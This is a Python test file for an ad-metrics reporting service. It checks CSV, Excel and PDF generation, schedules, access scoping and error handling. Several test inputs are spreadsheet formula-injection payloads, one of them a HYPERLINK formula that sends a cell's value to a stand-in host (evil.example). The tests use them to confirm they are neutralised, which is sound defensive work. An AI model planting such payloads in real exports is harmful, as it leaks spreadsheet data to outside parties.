"""Reports: generated as jobs from the rollups, stored, downloadable as CSV, Excel and PDF whose contents are
read back (csv module, openpyxl, pypdf); scheduled daily/weekly exactly once per period; report.v1.ready on
JetStream; org-scoped, with problem+json for bad input."""

from __future__ import annotations

import csv
import io
import urllib.parse
import uuid
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import openpyxl
import pypdf
from sqlalchemy import text as sql
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from adpilot_common.events.contracts.metrics import MetricRow
from adpilot_common.jobs import JobStatus, finish_job
from adpilot_common.testing.waiting import eventually
from adpilot_metrics.models import Report, ReportSchedule
from adpilot_metrics.reports.content import AccountLabel, account_labels
from adpilot_metrics.reports.runner import FAILED_MESSAGE, report_gave_up
from adpilot_metrics.reports.schedules import delete_expired_reports, latest_occurrence, period_of
from adpilot_metrics.schedule import REPORTS_JOB

from .conftest import ACCOUNT_NAME, MetricsService, campaign_event, fetched, publish_campaign_events, row

ORG = uuid.UUID("00000000-0000-4000-8000-00000000c001")
OTHER_ORG = uuid.UUID("00000000-0000-4000-8000-00000000c002")
ACCOUNT = uuid.UUID("00000000-0000-4000-8000-00000000d001")
FIRST = date(2026, 9, 1)
READY = "report.v1.ready"


def headers(svc: MetricsService, role: str = "member", org: uuid.UUID = ORG) -> dict[str, str]:
    return svc.issuer.headers(org_id=str(org), role=role)


async def seed(svc: MetricsService) -> None:
    """Two EUR campaigns over 5 days (one named like a spreadsheet formula) and one USD campaign."""
    await publish_campaign_events(
        svc,
        campaign_event("campaign.v1.created", "c-shoes", "Shoes — Herbst", org=ORG, account=ACCOUNT),
        campaign_event("campaign.v1.created", "c-evil", '=HYPERLINK("x")', org=ORG, account=ACCOUNT),
    )
    days = [FIRST + timedelta(days=i) for i in range(5)]
    await svc.publish(
        fetched(ORG, ACCOUNT, [row("c-shoes", d, 2) for d in days] + [row("c-evil", d, 1) for d in days])
    )
    await svc.publish(fetched(ORG, uuid.uuid4(), [row("c-us", FIRST, 3)], currency="USD"))
    await svc.settled()


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages)


async def request_report(svc: MetricsService, **body: Any) -> dict[str, Any]:
    payload = {
        "format": "csv",
        "from": FIRST.isoformat(),
        "to": (FIRST + timedelta(days=4)).isoformat(),
        **body,
    }
    async with svc.client() as client:
        response = await client.post("/api/metrics/reports", json=payload, headers=headers(svc))
    assert response.status_code == 202, response.text
    assert response.headers["location"] == f"/api/metrics/reports/{response.json()['id']}"
    return response.json()  # type: ignore[no-any-return]


async def finished(svc: MetricsService, report_id: str) -> dict[str, Any]:
    found: dict[str, Any] = {}

    async def done() -> bool:
        async with svc.client() as client:
            response = await client.get(f"/api/metrics/reports/{report_id}", headers=headers(svc, "viewer"))
        found.update(response.json())
        return found["status"] in ("succeeded", "failed")

    await eventually(done)
    return found


async def download(svc: MetricsService, report: dict[str, Any]) -> tuple[bytes, dict[str, str]]:
    async with svc.client() as client:
        response = await client.get(report["download_path"], headers=headers(svc, "viewer"))
    assert response.status_code == 200, response.text
    return response.content, dict(response.headers)


async def test_csv_report_lists_every_campaign_and_day_with_kpis_from_sums(
    metrics_service: MetricsService,
) -> None:
    await seed(metrics_service)
    queued = await request_report(metrics_service, title="Weekly numbers")
    assert queued["status"] == "queued" and queued["download_path"] is None
    report = await finished(metrics_service, queued["id"])
    assert report["status"] == "succeeded", report["error"]
    data, response_headers = await download(metrics_service, report)
    assert response_headers["content-type"].startswith("text/csv")
    assert response_headers["content-disposition"] == (
        'attachment; filename="weekly-numbers-2026-09-01-to-2026-09-05.csv"; '
        "filename*=UTF-8''weekly-numbers-2026-09-01-to-2026-09-05.csv"
    )
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 5 * 2 + 1  # every campaign and day, both currencies
    shoes = [r for r in rows if r["campaign_id"] == "c-shoes"]
    assert [r["period_start"] for r in shoes] == [(FIRST + timedelta(days=i)).isoformat() for i in range(5)]
    first = shoes[0]
    assert first["campaign_name"] == "Shoes — Herbst"
    assert (first["currency"], first["impressions"], first["clicks"]) == ("EUR", "2000", "20")
    assert (first["spend"], first["conversions"], first["conversion_value"]) == ("2.00", "1.00", "10.00")
    assert (first["ctr"], first["cpc"], first["cpa"], first["roas"]) == ("0.0100", "0.10", "2.00", "5.00")
    assert (first["account_id"], first["platform_account_id"]) == (str(ACCOUNT), "123-456-7890")
    assert first["account_name"] == ACCOUNT_NAME
    evil = next(r for r in rows if r["campaign_id"] == "c-evil")
    assert evil["campaign_name"] == '\'=HYPERLINK("x")'  # never a formula in a spreadsheet
    assert {r["currency"] for r in rows} == {"EUR", "USD"}
    assert sum(Decimal(r["spend"]) for r in rows if r["currency"] == "EUR") == Decimal(15)

    events = await metrics_service.published(READY)
    assert len(events) == 1
    assert events[0].org_id == ORG
    assert events[0].data["report_id"] == queued["id"]
    assert events[0].data["download_path"] == report["download_path"]
    assert events[0].data["size_bytes"] == len(data) == report["size_bytes"]


async def test_file_names_transliterate_the_title_and_carry_it_in_utf8(
    metrics_service: MetricsService,
) -> None:
    """The plain name is ASCII (accents dropped, not the letters); ``filename*`` (RFC 6266/5987) has the title's
    own letters."""
    await seed(metrics_service)
    period = "2026-09-01-to-2026-09-05"
    for fmt in ("csv", "xlsx", "pdf"):
        queued = await request_report(metrics_service, format=fmt, title="Q4 «Ünïcødé» report")
        report = await finished(metrics_service, queued["id"])
        assert report["file_name"] == f"q4-unicode-report-{period}.{fmt}"
        _, response_headers = await download(metrics_service, report)
        plain, extended = response_headers["content-disposition"].split("; filename*=")
        assert plain == f'attachment; filename="q4-unicode-report-{period}.{fmt}"'
        assert extended.startswith("UTF-8''") and "%C3%BC" in extended  # percent-encoded UTF-8
        assert urllib.parse.unquote(extended.removeprefix("UTF-8''")) == f"q4-ünïcødé-report-{period}.{fmt}"
    names = {e.data["file_name"] for e in await metrics_service.published(READY)}
    assert names == {f"q4-unicode-report-{period}.{fmt}" for fmt in ("csv", "xlsx", "pdf")}


async def test_xlsx_report_has_summary_trend_chart_campaigns_and_breakdown(
    metrics_service: MetricsService,
) -> None:
    await seed(metrics_service)
    report = await finished(metrics_service, (await request_report(metrics_service, format="xlsx"))["id"])
    data, response_headers = await download(metrics_service, report)
    assert (
        response_headers["content-type"]
        == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Summary", "Trend", "Campaigns", "Breakdown"]

    summary = {r[0]: r[1:] for r in book["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert summary["Period"][0] == "2026-09-01 to 2026-09-05"
    assert summary["Compared with"][0] == "2026-08-27 to 2026-08-31"
    assert "Totals in EUR" in summary and "Totals in USD" in summary
    eur_block = list(book["Summary"].iter_rows(values_only=True))
    start = next(i for i, r in enumerate(eur_block) if r[0] == "Totals in EUR")
    eur = {r[0]: r[1] for r in eur_block[start + 1 : start + 12]}
    assert eur["Impressions"] == 15_000 and eur["Clicks"] == 150
    assert Decimal(str(eur["Spend"])) == Decimal(15)
    assert eur["CTR"] == 0.01  # clicks / impressions of the sums
    assert Decimal(str(eur["CPA"])) == Decimal(2)

    campaigns = list(book["Campaigns"].iter_rows(values_only=True))
    assert campaigns[0][:8] == (
        "Rank",
        "Currency",
        "Platform",
        "Account",
        "Platform account id",
        "AdPilot account id",
        "Campaign id",
        "Campaign",
    )
    assert [(r[0], r[3], r[4], r[6]) for r in campaigns[1:] if r[1] == "EUR"] == [
        (1, ACCOUNT_NAME, "123-456-7890", "c-shoes"),
        (2, ACCOUNT_NAME, "123-456-7890", "c-evil"),
    ]
    evil = next(c for c in book["Campaigns"].iter_rows() if c[6].value == "c-evil")
    assert evil[7].value == '=HYPERLINK("x")' and evil[7].data_type == "s"  # text, not a formula
    assert book["Breakdown"].max_row == 1 + 11
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # openpyxl drops charts on load: look in the file
        chart = archive.read("xl/charts/chart1.xml").decode()
    assert "Spend per day (EUR)" in chart


async def test_figures_have_the_currency_decimals_and_accounts_their_platform_id_and_name(
    metrics_service: MetricsService,
) -> None:
    """Amounts in the currency's minor unit (JPY 0 decimals, GBP 2), ratios as fractions with 4 decimals, ROAS
    with 2: the same figures in the CSV, the Excel cells and the PDF. The account's platform id and name come
    from the campaign events; an account without any has neither."""
    gb, jp = uuid.uuid4(), uuid.uuid4()
    await publish_campaign_events(
        metrics_service, campaign_event("campaign.v1.created", "c-gb", "Brolly", org=ORG, account=gb)
    )
    odd = MetricRow(
        campaign_id="c-gb",
        day=FIRST,
        impressions=1720,
        clicks=58,
        spend_micros=57_823_099,
        conversions=Decimal("1.5"),
        conversion_value_micros=100_000_000,
    )
    await metrics_service.publish(fetched(ORG, gb, [odd], currency="GBP"))
    await metrics_service.publish(fetched(ORG, jp, [{**odd, "campaign_id": "c-jp"}], currency="JPY"))
    await metrics_service.settled()

    csv_report = await finished(metrics_service, (await request_report(metrics_service))["id"])
    data, _ = await download(metrics_service, csv_report)
    rows = {r["currency"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    measures = (
        "spend",
        "conversions",
        "conversion_value",
        "ctr",
        "cpc",
        "cpm",
        "cpa",
        "roas",
        "conversion_rate",
    )
    assert [rows["GBP"][m] for m in measures] == [
        "57.82",
        "1.50",
        "100.00",
        "0.0337",
        "1.00",
        "33.62",
        "38.55",
        "1.73",
        "0.0259",
    ]
    assert [rows["JPY"][m] for m in measures] == [
        "58",
        "1.50",
        "100",
        "0.0337",
        "1",
        "34",
        "39",
        "1.73",
        "0.0259",
    ]
    assert (rows["GBP"]["account_id"], rows["GBP"]["platform_account_id"]) == (str(gb), "123-456-7890")
    assert (rows["JPY"]["account_id"], rows["JPY"]["platform_account_id"]) == (str(jp), "")
    assert (rows["GBP"]["account_name"], rows["JPY"]["account_name"]) == (ACCOUNT_NAME, "")

    xlsx = await finished(metrics_service, (await request_report(metrics_service, format="xlsx"))["id"])
    book = openpyxl.load_workbook(io.BytesIO((await download(metrics_service, xlsx))[0]))
    sheet = list(book["Breakdown"].iter_rows())
    header = [c.value for c in sheet[0]]
    cells = {line[2].value: dict(zip(header, line, strict=True)) for line in sheet[1:]}
    assert (cells["JPY"]["Spend"].value, cells["JPY"]["Spend"].number_format) == (58, "#,##0")
    assert (cells["GBP"]["Spend"].value, cells["GBP"]["Spend"].number_format) == (57.82, "#,##0.00")
    assert (cells["GBP"]["CTR"].value, cells["GBP"]["CTR"].number_format) == (0.0337, "0.00%")
    assert (cells["GBP"]["ROAS"].value, cells["GBP"]["Platform account id"].value) == (1.73, "123-456-7890")
    assert (cells["GBP"]["Account"].value, cells["JPY"]["Account"].value) == (ACCOUNT_NAME, None)

    pdf = await finished(metrics_service, (await request_report(metrics_service, format="pdf"))["id"])
    text = pdf_text((await download(metrics_service, pdf))[0])
    assert "GBP 57.82" in text and "JPY 58" in text and "JPY 57.82" not in text
    assert "GBP 38.55" in text and "JPY 39" in text  # CPA


EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


async def test_text_we_did_not_compute_is_never_a_formula(metrics_service: MetricsService) -> None:
    """The title (the requester's) and campaign ids and names (the platforms') are text in both spreadsheet
    formats: typed as strings in Excel, quoted in CSV."""
    await seed(metrics_service)
    await metrics_service.publish(fetched(ORG, ACCOUNT, [row("@SUM(1+1)", FIRST, 1)]))
    await metrics_service.settled()
    xlsx = await finished(
        metrics_service, (await request_report(metrics_service, format="xlsx", title=EVIL_TITLE))["id"]
    )
    book = openpyxl.load_workbook(io.BytesIO((await download(metrics_service, xlsx))[0]))
    title = book["Summary"]["A1"]
    assert (title.value, title.data_type) == (EVIL_TITLE, "s")
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]
    assert formulas == []
    ids = [r[7].value for r in book["Breakdown"].iter_rows(min_row=2)]
    assert "@SUM(1+1)" in ids

    csv_report = await finished(
        metrics_service, (await request_report(metrics_service, format="csv", title=EVIL_TITLE))["id"]
    )
    data, response_headers = await download(metrics_service, csv_report)
    assert 'filename="hyperlink-http-evil-example-x-a2-click' in response_headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert "'@SUM(1+1)" in {r["campaign_id"] for r in rows}
    assert '\'=HYPERLINK("x")' in {r["campaign_name"] for r in rows}


UMBRELLAS = "Umbrellas and raincoats for the whole family — UK"


async def test_pdf_report_text_has_summary_chart_and_top_campaigns(metrics_service: MetricsService) -> None:
    await seed(metrics_service)
    gb = uuid.uuid4()
    await publish_campaign_events(
        metrics_service, campaign_event("campaign.v1.created", "c-gb", UMBRELLAS, org=ORG, account=gb)
    )
    ctr = MetricRow(
        campaign_id="c-gb",
        day=FIRST,
        impressions=1_234_567,
        clicks=41_481,
        spend_micros=57_823_099_123,
        conversions=Decimal("1234.5"),
        conversion_value_micros=99_999_999_999,
    )
    await metrics_service.publish(fetched(ORG, gb, [ctr], currency="GBP"))
    await metrics_service.settled()
    report = await finished(
        metrics_service, (await request_report(metrics_service, format="pdf", title="Board pack"))["id"]
    )
    data, response_headers = await download(metrics_service, report)
    assert response_headers["content-type"] == "application/pdf"
    assert data.startswith(b"%PDF-")
    text = pdf_text(data)
    assert "Board pack" in text
    assert "Period: 2026-09-01 to 2026-09-05" in text
    assert "Summary in EUR" in text and "Summary in USD" in text
    assert "EUR 15.00" in text  # total spend
    assert "1.00%" in text  # CTR from the sums
    assert "Spend per day (EUR)" in text
    assert "Shoes — Herbst" in text and ACCOUNT_NAME in text  # each campaign with its account's name
    assert '=HYPERLINK("x")' in text  # escaped into the page as text
    assert "Page 1 of" in text
    # No figure wraps in a cell ("3.36 / %", "GBP / 46.84"), however long the names: laid out as on the page,
    # the campaign's row has each figure whole on one line (a wrapped cell loses its space: "GBP46.84").
    page = "\n".join(
        p.extract_text(extraction_mode="layout") for p in pypdf.PdfReader(io.BytesIO(data)).pages
    )
    row_line = next(line for line in page.splitlines() if "sandbox" in line and "1,234,567" in line)
    figures = ["41,481", "GBP", "57,823.10", "1,234.50", "3.36%", "GBP", "46.84", "1.73"]
    assert row_line.split()[-len(figures) :] == figures
    assert "3.36%" in text


async def test_empty_period_still_makes_a_report(metrics_service: MetricsService) -> None:
    report = await finished(metrics_service, (await request_report(metrics_service, format="pdf"))["id"])
    data, _ = await download(metrics_service, report)
    text = pdf_text(data)
    assert "No metrics in this period." in text


async def test_account_filter_narrows_the_report(metrics_service: MetricsService) -> None:
    await seed(metrics_service)
    queued = await request_report(metrics_service, filters={"account_id": str(ACCOUNT)})
    report = await finished(metrics_service, queued["id"])
    assert report["filters"] == {"account_id": str(ACCOUNT)}
    data, _ = await download(metrics_service, report)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert {r["account_id"] for r in rows} == {str(ACCOUNT)} and len(rows) == 10


async def test_download_before_ready_is_409_and_listing_pages(metrics_service: MetricsService) -> None:
    await metrics_service.app.state.report_runner.stop()  # nothing generates: the reports stay queued
    ids = [(await request_report(metrics_service, title=f"r{i}"))["id"] for i in range(3)]
    async with metrics_service.client() as client:
        response = await client.get(
            f"/api/metrics/reports/{ids[0]}/download", headers=headers(metrics_service)
        )
        assert response.status_code == 409
        assert response.headers["content-type"].startswith("application/problem+json")
        assert response.json()["title"] == "Report not ready"
        page = (
            await client.get("/api/metrics/reports", params={"limit": 2}, headers=headers(metrics_service))
        ).json()
        assert [r["id"] for r in page["items"]] == ids[::-1][:2]
        rest = (
            await client.get(
                "/api/metrics/reports",
                params={"limit": 2, "cursor": page["next_cursor"]},
                headers=headers(metrics_service),
            )
        ).json()
        assert [r["id"] for r in rest["items"]] == [ids[0]] and rest["next_cursor"] is None
        bad = await client.get(
            "/api/metrics/reports", params={"cursor": "nonsense"}, headers=headers(metrics_service)
        )
        assert bad.status_code == 422
        deleted = await client.delete(f"/api/metrics/reports/{ids[1]}", headers=headers(metrics_service))
        assert deleted.status_code == 204
        gone = await client.get(f"/api/metrics/reports/{ids[1]}", headers=headers(metrics_service))
        assert gone.status_code == 404


async def test_reports_are_org_scoped_and_bad_input_is_a_problem(metrics_service: MetricsService) -> None:
    await seed(metrics_service)
    report = await finished(metrics_service, (await request_report(metrics_service))["id"])
    foreign = headers(metrics_service, org=OTHER_ORG)
    async with metrics_service.client() as client:
        for path in (f"/api/metrics/reports/{report['id']}", report["download_path"]):
            response = await client.get(path, headers=foreign)
            assert response.status_code == 404, path
        assert (await client.get("/api/metrics/reports", headers=foreign)).json()["items"] == []

        async def post(body: dict[str, Any], role: str = "member") -> Any:
            return await client.post(
                "/api/metrics/reports", json=body, headers=headers(metrics_service, role)
            )

        base = {"format": "csv", "from": "2026-09-01", "to": "2026-09-05"}
        assert (await post(base, role="viewer")).status_code == 403
        cases = [
            ({**base, "from": "2026-09-06"}, 422, "Invalid date range"),
            ({**base, "from": "2020-01-01"}, 422, "Date range too long"),
            ({**base, "from": "0001-01-01", "to": "0001-01-05"}, 422, "Date out of range"),
            ({**base, "from": "9999-12-01", "to": "9999-12-31", "bucket": "month"}, 422, "Date out of range"),
            ({**base, "format": "docx"}, 422, None),
            ({**base, "bucket": "hour"}, 422, None),
            ({**base, "filters": {"account_id": str(uuid.uuid4())}}, 404, "Account not found"),
            ({**base, "surprise": 1}, 422, None),
        ]
        for body, status, title in cases:
            response = await post(body)
            assert response.status_code == status, (body, response.text)
            assert response.headers["content-type"].startswith("application/problem+json")
            if title:
                assert response.json()["title"] == title


def schedule_row(
    frequency: str, hour: int, weekday: int | None = None, created: datetime | None = None
) -> ReportSchedule:
    return ReportSchedule(
        frequency=frequency,
        hour_utc=hour,
        weekday=weekday,
        created_at=created or datetime(2026, 1, 1, tzinfo=UTC),
    )


def test_latest_occurrence_and_period_of_daily_and_weekly_schedules() -> None:
    now = datetime(2026, 11, 25, 7, 30, tzinfo=UTC)  # a Wednesday
    daily = schedule_row("daily", 6)
    assert latest_occurrence(daily, now) == datetime(2026, 11, 25, 6, tzinfo=UTC)
    assert period_of(daily, datetime(2026, 11, 25, 6, tzinfo=UTC)) == (date(2026, 11, 24), date(2026, 11, 24))
    assert latest_occurrence(schedule_row("daily", 8), now) == datetime(2026, 11, 24, 8, tzinfo=UTC)
    monday = schedule_row("weekly", 6, weekday=0)
    occurrence = latest_occurrence(monday, now)
    assert occurrence == datetime(2026, 11, 23, 6, tzinfo=UTC)
    assert period_of(monday, occurrence) == (date(2026, 11, 16), date(2026, 11, 22))
    assert latest_occurrence(schedule_row("weekly", 9, weekday=2), now) == datetime(
        2026, 11, 18, 9, tzinfo=UTC
    )
    # A schedule made after its latest occurrence waits for the next one.
    assert (
        latest_occurrence(schedule_row("daily", 6, created=datetime(2026, 11, 25, 7, tzinfo=UTC)), now)
        is None
    )


async def test_scheduled_report_is_made_once_per_period_and_names_its_recipients(
    metrics_service: MetricsService,
) -> None:
    await seed(metrics_service)
    async with metrics_service.client() as client:
        body = {
            "title": "Daily digest",
            "format": "xlsx",
            "frequency": "daily",
            "hour_utc": 6,
            "recipients": ["ana@example.com"],
        }
        assert (
            await client.post("/api/metrics/report-schedules", json=body, headers=headers(metrics_service))
        ).status_code == 403
        response = await client.post(
            "/api/metrics/report-schedules", json=body, headers=headers(metrics_service, "admin")
        )
        assert response.status_code == 201, response.text
        schedule = response.json()
        weekly_without_day = {**body, "frequency": "weekly"}
        bad = await client.post(
            "/api/metrics/report-schedules",
            json=weekly_without_day,
            headers=headers(metrics_service, "admin"),
        )
        assert bad.status_code == 422
    # The ticker's start-up tick of the current hour, if handled after the back-dating below, would also make
    # the report of the current period (seen in CI on a slow run).
    await metrics_service.start_ticks_handled()
    await metrics_service.execute("UPDATE report_schedules SET created_at = '2026-09-01T00:00:00Z'")

    slot = datetime(
        2026, 9, 6, 7, tzinfo=UTC
    )  # the 06:00 occurrence of 6 September: the report covers the 5th
    for tick_slot in (slot, slot, slot + timedelta(hours=1)):  # a duplicate tick and a later one
        await metrics_service.tick(REPORTS_JOB, tick_slot)
    reports = await metrics_service.rows("SELECT id, date_from, date_to, period_key FROM reports")
    assert [(r["date_from"], r["date_to"], r["period_key"]) for r in reports] == [
        (date(2026, 9, 5), date(2026, 9, 5), "2026-09-05")
    ]
    report = await finished(metrics_service, str(reports[0]["id"]))
    assert report["status"] == "succeeded" and report["schedule_id"] == schedule["id"]
    [event] = await metrics_service.published(READY)
    assert event.data["recipients"] == ["ana@example.com"]
    assert event.data["requested_by"] is None and event.data["schedule_id"] == schedule["id"]
    data, _ = await download(metrics_service, report)
    breakdown = list(openpyxl.load_workbook(io.BytesIO(data))["Breakdown"].iter_rows(values_only=True))
    assert {r[0].date() for r in breakdown[1:]} == {date(2026, 9, 5)}

    async with metrics_service.client() as client:
        listed = (
            await client.get("/api/metrics/report-schedules", headers=headers(metrics_service, "viewer"))
        ).json()
        assert [s["id"] for s in listed["items"]] == [schedule["id"]]
        foreign = await client.delete(
            f"/api/metrics/report-schedules/{schedule['id']}",
            headers=headers(metrics_service, "admin", OTHER_ORG),
        )
        assert foreign.status_code == 404
        deleted = await client.delete(
            f"/api/metrics/report-schedules/{schedule['id']}", headers=headers(metrics_service, "admin")
        )
        assert deleted.status_code == 204
    assert await metrics_service.scalar("SELECT count(*) FROM reports") == 1  # made reports stay


async def test_expired_reports_are_deleted_with_their_files(metrics_service: MetricsService) -> None:
    report = await finished(metrics_service, (await request_report(metrics_service))["id"])
    sessions = async_sessionmaker(metrics_service.engine)
    async with sessions() as session, session.begin():
        assert await delete_expired_reports(session, datetime.now(UTC), retention_days=1) == 0
        later = datetime.now(UTC) + timedelta(days=2)
        assert await delete_expired_reports(session, later, retention_days=1) == 1
    assert await metrics_service.scalar("SELECT count(*) FROM report_files") == 0
    assert (
        await metrics_service.scalar(
            "SELECT count(*) FROM reports WHERE id = :id", id=uuid.UUID(report["id"])
        )
        == 0
    )


async def test_a_report_given_up_publishes_report_failed(metrics_service: MetricsService) -> None:
    await metrics_service.app.state.report_runner.stop()
    queued = await request_report(metrics_service)
    sessions = async_sessionmaker(metrics_service.engine)
    async with sessions() as session, session.begin():
        # What the job runner does when it gives up: fail the job with the raw error, then call the hook.
        error = "OverflowError: date value out of range"
        await finish_job(session, Report, uuid.UUID(queued["id"]), JobStatus.FAILED, error)
        await report_gave_up(session, uuid.UUID(queued["id"]), error)
    [event] = await metrics_service.published("report.v1.failed")
    assert event.data["report_id"] == queued["id"]
    assert "Overflow" not in event.data["error"]  # internals stay in the logs
    assert event.data["requested_by"] is not None
    async with metrics_service.client() as client:
        report = (
            await client.get(f"/api/metrics/reports/{queued['id']}", headers=headers(metrics_service))
        ).json()
        download = await client.get(
            f"/api/metrics/reports/{queued['id']}/download", headers=headers(metrics_service)
        )
    assert report["status"] == "failed"
    assert report["error"] == event.data["error"] == FAILED_MESSAGE
    assert download.status_code == 409 and download.json()["detail"] == FAILED_MESSAGE


async def test_an_account_is_named_by_the_latest_event_that_names_it(metrics_service: MetricsService) -> None:
    """A rename on the platform shows in the next report; an event from a producer that predates
    ``account_name`` (it carries none) keeps the name already known."""
    account, now = uuid.uuid4(), datetime.now(UTC)
    await publish_campaign_events(
        metrics_service,
        campaign_event(
            "campaign.v1.created",
            "c-1",
            "One",
            org=ORG,
            account=account,
            account_name="Acme",
            occurred_at=now - timedelta(minutes=10),
        ),
        campaign_event(
            "campaign.v1.updated",
            "c-1",
            "One",
            org=ORG,
            account=account,
            account_name=None,
            occurred_at=now - timedelta(minutes=5),
        ),
        campaign_event(
            "campaign.v1.created", "c-2", "Two", org=ORG, account=account, account_name="Acme Europe"
        ),
    )
    async with AsyncSession(metrics_service.engine) as session:
        kept = await session.scalar(
            sql("SELECT account_name FROM campaign_dimensions WHERE campaign_id = 'c-1'")
        )
        labels = await account_labels(session, ORG)
    assert kept == "Acme"
    assert labels[account] == AccountLabel(platform_id="123-456-7890", name="Acme Europe")
